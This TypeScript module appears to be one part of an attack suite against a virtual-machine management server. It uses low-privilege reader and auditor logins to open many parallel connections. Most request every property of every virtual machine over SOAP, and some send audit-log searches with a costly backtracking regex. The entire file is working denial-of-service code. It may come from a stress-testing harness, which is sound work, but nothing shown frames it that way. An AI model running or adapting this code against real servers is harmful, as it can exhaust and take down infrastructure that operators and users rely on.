import { attempt, basic, type Caller, createCaller, xmlOf } from '../calls.ts'
import { type Account, type Attack, count, loops } from '../target.ts'

const step = (name: string, type: string, path: string, ...next: string[]) =>
  `<selectSet xsi:type="TraversalSpec"><name>${name}</name><type>${type}</type><path>${path}</path><skip>false</skip>` +
  `${next.map((to) => `<selectSet><name>${to}</name></selectSet>`).join('')}</selectSet>`

/** All properties of all virtual machines. */
const everything = xmlOf(
  'RetrieveProperties',
  '<_this type="PropertyCollector">propertyCollector</_this><specSet>' +
    '<propSet><type>VirtualMachine</type><all>true</all></propSet>' +
    '<objectSet><obj type="Folder">group-d1</obj><skip>true</skip>' +
    step('folder', 'Folder', 'childEntity', 'folder', 'datacenter') +
    step('datacenter', 'Datacenter', 'vmFolder', 'folder') +
    '</objectSet></specSet>',
)
const soap = { 'content-type': 'text/xml' }

async function signedIn(caller: Caller, { name, password }: Account): Promise<string> {
  const { headers, text } = await caller.send({
    method: 'POST',
    path: '/sdk',
    headers: soap,
    body: xmlOf(
      'Login',
      `<_this type="SessionManager">SessionManager</_this><userName>${name}</userName><password>${password}</password>`,
    ),
  })
  const cookie = [headers['set-cookie']].flat()[0]?.split(';')[0]
  if (!cookie) throw new Error(`the reader cannot sign in: ${text}`)
  return cookie
}

/** Of so many connections one searches the audit log; the others read the inventory. */
const searching = 10

/** Part 12: what those who are known can ask for that costs as much as there is. */
export const readers: Attack = async (target, connections, from, outcomes, ended) => {
  const callers = Array.from({ length: connections }, () => createCaller(target.manager, from))
  let cookie: Promise<string> | undefined
  await loops(connections, ended, async (number) => {
    const caller = callers[number] as Caller
    if (number % searching === 0) {
      const body = JSON.stringify({ log_filter: '(a|b)*c[0-9]+zz', log_filter_type: 'REGEX' })
      const headers = { 'content-type': 'application/json', authorization: basic(target.auditor) }
      const path = '/api/v1/administration/audit-logs'
      return attempt(outcomes, caller, { method: 'POST', path, headers, body })
    }
    cookie ??= signedIn(caller, target.reader)
    const own = await cookie.catch(() => undefined)
    if (own === undefined) {
      cookie = undefined
      return count(outcomes, 'no session')
    }
    return attempt(outcomes, caller, {
      method: 'POST',
      path: '/sdk',
      headers: { ...soap, cookie: own },
      body: everything,
    })
  })
  for (const caller of callers) caller.close()
}
